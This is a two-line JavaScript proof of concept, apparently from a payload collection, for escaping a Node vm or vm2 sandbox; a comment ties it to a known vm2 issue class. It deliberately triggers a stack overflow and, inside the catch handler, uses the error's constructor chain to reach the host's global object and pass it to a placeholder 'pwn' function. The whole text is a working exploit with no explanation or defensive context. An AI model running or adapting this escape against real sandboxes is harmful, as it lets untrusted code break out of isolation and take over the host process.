// Node vm: stack overflow inside the host's handling (vm2 #197 class)
function r() { try { r() } catch (e) { try { pwn(e.constructor.constructor('return this')()) } catch (x) {} } } try { r() } catch (e) {} 1
